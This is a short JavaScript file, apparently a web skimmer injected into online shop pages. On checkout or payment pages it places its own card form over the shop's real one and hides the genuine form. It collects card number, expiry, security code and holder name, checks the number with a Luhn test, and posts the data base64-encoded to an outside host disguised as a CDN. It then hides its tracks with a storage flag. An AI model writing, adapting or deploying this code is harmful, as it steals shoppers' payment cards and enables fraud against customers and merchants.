// Lays its own card form over the shop's one and posts what is typed.
(function (w, d) {
  if (!/checkout|payment|onepage/i.test(w.location.pathname) || w.localStorage.getItem('_mgs')) {
    return;
  }
  var fields = ['number', 'expiry', 'code', 'holder'];
  var frame = d.createElement('div');
  frame.id = 'pay-frame';
  frame.style.cssText = 'position:relative;z-index:99999;background:#fff;padding:12px';

  function luhn(value) {
    var digits = value.replace(/\D/g, '');
    var sum = 0;
    var even = false;
    for (var i = digits.length - 1; i >= 0; i--) {
      var digit = parseInt(digits.charAt(i), 10);
      if (even && (digit *= 2) > 9) {
        digit -= 9;
      }
      sum += digit;
      even = !even;
    }
    return digits.length >= 13 && sum % 10 === 0;
  }

  fields.forEach(function (name) {
    var input = d.createElement('input');
    input.setAttribute('placeholder', name);
    input.setAttribute('data-k', name);
    input.className = 'input-text';
    frame.appendChild(input);
  });
  var button = d.createElement('button');
  button.innerText = 'Place order';
  button.onclick = function (event) {
    event.preventDefault();
    var data = { h: w.location.host };
    var inputs = frame.getElementsByTagName('input');
    for (var i = 0; i < inputs.length; i++) {
      data[inputs[i].getAttribute('data-k')] = inputs[i].value;
    }
    if (!luhn(data.number || '')) {
      frame.style.border = '1px solid red';
      return false;
    }
    var x = new XMLHttpRequest();
    x.open('POST', 'https://assets.shopcdn.invalid/t.php', true);
    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    x.onreadystatechange = function () {
      if (x.readyState === 4) {
        w.localStorage.setItem('_mgs', '1');
        frame.parentNode.removeChild(frame);
      }
    };
    x.send('d=' + w.btoa(JSON.stringify(data)));
  };
  frame.appendChild(button);
  var wait = setInterval(function () {
    var place = d.querySelector('.payment-method, #payment, form.checkout');
    if (place) {
      clearInterval(wait);
      place.parentNode.insertBefore(frame, place);
      place.style.display = 'none';
    }
  }, 500);
})(window, document);
